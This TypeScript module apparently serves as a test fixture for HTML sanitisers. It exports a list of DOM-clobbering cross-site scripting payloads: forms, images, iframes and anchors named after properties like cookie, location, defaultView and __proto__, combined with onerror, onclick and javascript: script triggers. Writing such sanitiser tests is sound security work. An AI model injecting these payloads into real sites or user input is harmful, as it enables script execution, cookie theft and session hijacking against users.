import { run } from './run.ts';

const pay = `<img src=x onerror=${run}>`;

/** Names that a sanitiser, or a page, asks an element or the document for. */
const ofNode = [
  ...[
    'attributes',
    'childNodes',
    'children',
    'content',
    'firstChild',
    'getAttributeNode',
    'hasChildNodes',
    'innerHTML',
  ],
  ...[
    'insertBefore',
    'lastChild',
    'namespaceURI',
    'nextSibling',
    'nodeName',
    'nodeType',
    'ownerDocument',
    'parentNode',
  ],
  ...['remove', 'removeAttribute', 'removeChild', 'setAttribute', 'shadowRoot', 'tagName', 'textContent', '__proto__'],
];
const ofDocument = [
  ...['body', 'cookie', 'createElement', 'currentScript', 'defaultView', 'documentElement', 'getElementById', 'head'],
  ...['implementation', 'importNode', 'location', 'querySelector', 'constructor', 'toString', 'shiye', 'backstage'],
];

/** Ids and names that stand in for what a script means, beside what would then get through. */
export const byName: readonly string[] = [
  ...ofNode.map((name) => `<form onclick=${run}><input name=${name}>${pay}</form>`),
  ...ofDocument.map((name, at) => `<${at % 2 === 0 ? 'img' : 'form'} name=${name} id=${name}>${pay}`),
  `<form id=f><input name=attributes><input name=childNodes></form>${pay}`,
  `<form><input name=parentNode><input name=nodeName>${pay}</form>`,
  `<a id=defaultView></a><a id=defaultView name=alert href="#">${pay}</a>`,
  `<form id=config><output id=config name=url>${pay}</output></form>`,
  `<iframe name=self srcdoc="<a id=x href=javascript:parent.${run}>x</a>"></iframe>`,
  `<object id=top name=top data="about:blank">${pay}</object>`,
  `<embed name=cookie src="about:blank">${pay}`,
  `<form id=a></form><button form=a name=submit onclick=${run}>e</button>`,
  `<html id=documentElement><body id=body>${pay}`,
  `<a id=__proto__ name=__proto__ href="cid:x">${pay}</a>`,
];
